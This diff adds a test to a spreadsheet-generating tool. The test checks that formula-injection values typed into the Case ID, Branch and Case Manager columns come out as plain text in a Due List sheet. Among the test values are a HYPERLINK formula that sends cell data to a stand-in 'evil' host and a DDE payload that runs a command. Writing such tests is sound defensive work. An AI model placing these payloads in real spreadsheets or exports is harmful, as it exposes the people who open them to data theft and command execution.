@@ -198,6 +198,52 @@ def test_trigger_text_in_patched_sheets_has_a_quote_prefix_style(recomputed: Pat
     assert checked >= sum(triggered(tidy(p)) for p in PAYLOADS)
 
 
+def test_payloads_in_case_id_branch_and_case_manager_reach_the_due_list_as_text(
+    tmp_path: Path,
+) -> None:
+    """Other columns the Due List copies: Case ID, Branch (not on Branches: a warning,
+    the row still counts) and Case Manager (not on Staff: a warning)."""
+    typed = [
+        ("=1+1", "Austin North", "Maria Lopez"),
+        ("-00123", '=HYPERLINK("http://evil/?d="&B3,"Click")', "Maria Lopez"),
+        ("@A1", "Austin North", "+cmd|' /C calc'!A0"),
+    ]
+    clients = []
+    for case_id, branch, manager in typed:
+        row = _client(case_id, "Ana Example")
+        row[schema.CLIENTS.headers.index("Branch")] = branch
+        row[schema.CLIENTS.headers.index("Case Manager")] = manager
+        clients.append(row)
+    path = create_workbook(
+        tmp_path / "columns.xlsx",
+        as_of=AS_OF,
+        rows={
+            "Branches": [_row(schema.BRANCHES, Branch="Austin North", State="TX", Calendar="TX")],
+            "Staff": [
+                _row(schema.STAFF, **{"Case Manager": "Maria Lopez", "Branch": "Austin North"})
+            ],
+            "Clients": clients,
+        },
+    )
+    result = recompute(path, AS_OF)
+    assert {c.case_id for c in result.evaluation.workbook.caseload.clients} == {t[0] for t in typed}
+    wb = openpyxl.load_workbook(path)
+    due = wb["Due List"]
+    headers = schema.DUE_LIST.headers
+    seen = set()
+    for r in range(FIRST, due.max_row + 1):
+        case_id = due.cell(r, 1).value
+        expected = next(t for t in typed if t[0] == case_id)
+        _assert_text_cell(due.cell(r, 1), expected[0])
+        _assert_text_cell(due.cell(r, headers.index("Branch") + 1), expected[1])
+        _assert_text_cell(due.cell(r, headers.index("Case Manager") + 1), expected[2])
+        seen.add(case_id)
+    assert seen == {t[0] for t in typed}
+    clients_ws = wb["Clients"]
+    for i, (case_id, _, _) in enumerate(typed):
+        _assert_text_cell(clients_ws.cell(FIRST + i, 1), case_id)
+
+
 # ---------------------------------------------------------------- LibreOffice
 
 
